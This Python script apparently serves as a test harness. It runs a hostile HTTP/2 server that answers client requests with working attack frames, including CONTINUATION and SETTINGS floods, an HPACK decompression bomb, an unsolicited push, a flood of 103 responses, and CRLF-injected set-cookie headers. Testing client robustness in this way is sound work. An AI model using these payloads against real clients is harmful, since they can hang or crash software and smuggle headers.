"""A hostile server of HTTP/2: h2_attacks.py PORT CERTIFICATE KEY LOG. The body of a
request names what it does to the client, "/good" answers."""
import json
import socket
import ssl
import struct
import sys
import threading

port, cert, key, log = sys.argv[1:]
context = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
context.load_cert_chain(cert, key)
context.set_alpn_protocols(["h2"])


def frame(kind, flags, stream, body=b""):
    return (struct.pack("!I", len(body))[1:] + bytes([kind, flags]) +
            struct.pack("!I", stream) + body)


def literal(name, value):
    def text(s):
        n = len(s)
        return (bytes([n]) if n < 127 else
                bytes([127, (n - 127) % 128 + 128, (n - 127) // 128])) + s
    return b"\x00" + text(name) + text(value)


OK = b"\x88"
ATTACKS = {
    b"/good": lambda: [frame(1, 4, 1, OK), frame(0, 1, 1, b"fine")],
    b"/continue": lambda: [frame(1, 0, 1, OK)] + [
        frame(9, 0, 1, literal(b"x", b"y" * 1000))] * 100000,
    b"/bomb": lambda: [frame(1, 4, 1, OK + b"\x40\x01a\x7f\xa1\x1e" + b"b" * 4000 +
                             b"\xbe" * 12000)],
    b"/long": lambda: [frame(1, 0, 1, OK)] + [
        frame(9, 0, 1, literal(b"x", b"y" * 16000))] * 6 + [frame(9, 4, 1)],
    # It has not confirmed that it may not push.
    b"/push": lambda: [frame(5, 4, 1, b"\0\0\0\2\x82\x87\x84" + literal(b":authority", b"a")),
                       frame(1, 4, 1, OK), frame(0, 1, 1, b"fine"),
                       frame(1, 4, 2, OK), frame(0, 1, 2, b"pushed")],
    b"/settings": lambda: [frame(4, 0, 0) * 1000] * 1000,
    b"/interim": lambda: [frame(1, 4, 1, literal(b":status", b"103") +
                                literal(b"link", b"x" * 1000))] * 20000,
    b"/switch": lambda: [frame(1, 4, 1, literal(b":status", b"101"))],
    b"/lines": lambda: [frame(1, 4, 1, OK + literal(b"x", b"y\r\nset-cookie: a")),
                        frame(0, 1, 1, b"fine")],
    b"/leave": lambda: [frame(7, 0, 0, b"\0\0\0\0\0\0\0\0")],
}


def serve(raw):
    try:
        with context.wrap_socket(raw, server_side=True) as sock:
            got = b""
            sock.sendall(frame(4, 0, 0))
            while not any(name in got for name in ATTACKS):
                part = sock.recv(65536)
                if not part:
                    return
                got += part
            for name, attack in ATTACKS.items():
                if name in got:
                    for one in attack():
                        sock.sendall(one)
                    break
            while sock.recv(65536):
                pass
    except (OSError, ssl.SSLError):
        pass


door = socket.create_server(("203.0.113.10", int(port)), backlog=100)
with open(log, "a") as out:
    out.write(json.dumps({"listening": "attacks"}) + "\n")
while True:
    threading.Thread(target=serve, args=(door.accept()[0],), daemon=True).start()
